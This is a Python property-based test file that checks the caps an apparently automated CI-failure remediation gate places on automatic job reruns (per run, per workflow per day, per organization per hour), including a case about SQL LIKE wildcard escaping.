# --------------------------------------------------- caps counted on Postgres over time ----

HUMAN = "U012AB3CD"
# "ac_e" would match "acme/..." in an unescaped LIKE 'ac_e/%': the organization count must not.
CAP_REPOSITORIES = ("acme/web", "acme/api", "ac_e/lib")


@dataclass(frozen=True)
class Attempted:
    repository: str
    run: int
    workflow: int
    minutes_later: int
    approved_by_human: bool


attempts_in_time = st.lists(
    st.builds(
        Attempted,
        repository=st.sampled_from(CAP_REPOSITORIES),
        run=st.integers(1, 3),
        workflow=st.integers(1, 2),
        minutes_later=st.sampled_from([0, 1, 5, 30, 59, 60, 61, 600, 1439, 1440, 1441]),
        approved_by_human=st.booleans(),
    ),
    min_size=1,
    max_size=12,
)


@dataclass(frozen=True)
class Spent:
    repository: str
    run_id: int
    workflow: int
    at: datetime


def _organization(repository: str) -> str:
    return repository.split("/", 1)[0]


def expected_history(spent: list[Spent], attempt: Spent) -> AutoHistory:
    """The caps' counts, as config.json describes them, over the automatic remediations
    spent so far."""
    return AutoHistory(
        on_this_run=sum(
            (s.repository, s.run_id) == (attempt.repository, attempt.run_id) for s in spent
        ),
        on_this_workflow_today=sum(
            (s.repository, s.workflow) == (attempt.repository, attempt.workflow)
            and s.at >= attempt.at - timedelta(days=1)
            for s in spent
        ),
        organization_last_hour=sum(
            _organization(s.repository) == _organization(attempt.repository)
            and s.at >= attempt.at - timedelta(hours=1)
            for s in spent
        ),
    )


@settings(max_examples=examples(30))
@given(attempts_in_time, st.integers(0, 3), st.integers(0, 4), st.integers(0, 5))
# Always tried: acme's remediation must not count for ac_e a minute later (LIKE's `_`).
@example([Attempted("acme/web", 1, 1, 0, False), Attempted("ac_e/lib", 1, 1, 1, False)], 3, 4, 5)
def test_caps_bound_automatic_attempts_for_any_failure_sequence(
    engine: Engine,  # noqa: F811 - the fixture imported above
    sequence: list[Attempted],
    per_run: int,
    per_day: int,
    per_hour: int,
) -> None:
    """Property 66 (Safety Gate): for any sequence of failures over time, the automatic
    remediations counted on Postgres (human-approved ones aside) never exceed the per-run cap,
    the per-workflow cap in any day, nor the organization's cap in any hour, and a failure
    with every count below its cap is not held back by them."""
    policy = resolve_policy(
        FileConfig.model_validate(
            {"max_auto_attempts_per_run": per_run, "max_auto_per_workflow_per_day": per_day}
        ),
        REPOSITORY,
    )
    spent: list[Spent] = []
    attempts: dict[tuple[str, int], int] = {}
    now = START
    with rolled_back(engine) as session:
        for event in sequence:
            now += timedelta(minutes=event.minutes_later)
            run_id = 1000 + event.run
            attempt_number = attempts[(event.repository, run_id)] = (
                attempts.get((event.repository, run_id), 0) + 1
            )
            failure = add_failure(
                session,
                repository=event.repository,
                run_id=run_id,
                run_attempt=attempt_number,
                workflow_id=event.workflow,
                state=FailureState.GATED,
                at=now,
            )
            this = Spent(event.repository, run_id, event.workflow, now)
            history = count_auto_history(session, failure=failure, now=now)
            assert history == expected_history(spent, this)

            verdict = evaluate_gate(
                GateInput(
                    model_risk=0,
                    rules_risk=0,
                    policy=policy,
                    action=CATALOG[ActionKind.RERUN_FAILED_JOBS],
                    run=RunContext(workflow_name="CI", event="push", head_branch="feature/x"),
                    history=history,
                    max_auto_per_hour=per_hour,
                )
            ).verdict
            below = (
                history.on_this_run < per_run
                and history.on_this_workflow_today < per_day
                and history.organization_last_hour < per_hour
            )
            assert (verdict is Verdict.AUTO) == below
            if verdict is Verdict.AUTO or event.approved_by_human:
                session.add(
                    Remediation(
                        failure_id=failure.id,
                        action=ActionKind.RERUN_FAILED_JOBS,
                        status=RemediationStatus.SUCCEEDED,
                        repository=event.repository,
                        run_id=run_id,
                        target_attempt=attempt_number + 1,
                        approved_by=None if verdict is Verdict.AUTO else HUMAN,
                        created_at=now,
                    )
                )
                session.flush()
                if verdict is Verdict.AUTO:
                    spent.append(this)

    for index, auto in enumerate(spent):
        so_far = spent[: index + 1]
        assert sum((s.repository, s.run_id) == (auto.repository, auto.run_id) for s in so_far) <= (
            per_run
        )
        assert (
            sum(
                (s.repository, s.workflow) == (auto.repository, auto.workflow)
                and s.at >= auto.at - timedelta(days=1)
                for s in so_far
            )
            <= per_day
        )
        assert (
            sum(
                _organization(s.repository) == _organization(auto.repository)
                and s.at >= auto.at - timedelta(hours=1)
                for s in so_far
            )
            <= per_hour
        )
